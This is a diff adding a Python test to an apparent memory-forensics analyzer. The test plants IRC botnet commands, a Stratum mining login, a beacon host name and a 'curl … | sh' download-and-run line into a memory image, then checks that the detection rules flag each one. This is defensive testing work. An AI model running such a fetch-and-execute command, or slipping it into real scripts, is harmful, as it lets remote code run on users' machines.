@@ -251,3 +251,34 @@ def test_analyze_bad_input():
     eq(out, b'', 'nothing on stdout')
     rc, _, err = run('analyze', '--format', 'pdf', fixture('counter'), check=False)
     eq(rc, 2, err)
+
+
+def test_detects_planted_behaviour_in_a_clean_scene():
+    """Text planted into the memory of the clean counter scene: IRC commands,
+    a download-and-run line, a mining login and a host name.  The rules find
+    them by what they are, with the addresses where they were planted."""
+    import test_memory
+    _, runs = test_memory._planted('probe-analyze', [])
+    big = [r for r in runs if r[1] >= 3 * 4096][0]
+    va = big[0] + 64
+    plants = [
+        (va, b'NICK zx81\x00'),
+        (va + 256, b'USER zx81 0 * :k3y\x00'),
+        (va + 512, b'JOIN #ops-room\x00'),
+        (va + 768, b'curl -fsSL http://203.0.113.9/a.sh | sh\x00'),
+        (va + 1024, b'{"id":1,"method":"mining.authorize","params":["w","x"]}\x00'),
+        (va + 1280, b'beacon update.evil-cdn.xyz every 60s\x00'),
+    ]
+    d, _ = test_memory._planted('probe-analyze', plants)
+    r = jrun('analyze', '--format', 'json', '--no-builtin-rules', d)
+    got = {f['id'] for f in r['findings']}
+    for fid in ('KCSI-PROTO-IRC-001', 'KCSI-DL-001', 'KCSI-PROTO-STRATUM-001'):
+        assert fid in got, (fid, sorted(got))
+    irc = find(r, 'KCSI-PROTO-IRC-001')[0]
+    addrs = {int(e['address'], 16) for e in irc['evidence'] if 'address' in e}
+    assert {va, va + 256, va + 512} <= addrs, (hex(va), irc['evidence'])
+    vals = iocs(r)
+    assert vals['203.0.113.9']['class'] == 'documentation', vals.get('203.0.113.9')
+    assert 'http://203.0.113.9/a.sh' in vals and '#ops-room' in vals and 'zx81' in vals, sorted(vals)
+    assert 'update.evil-cdn.xyz' in vals, sorted(vals)
+    eq(r['verdict'], 'malicious', 'verdict')
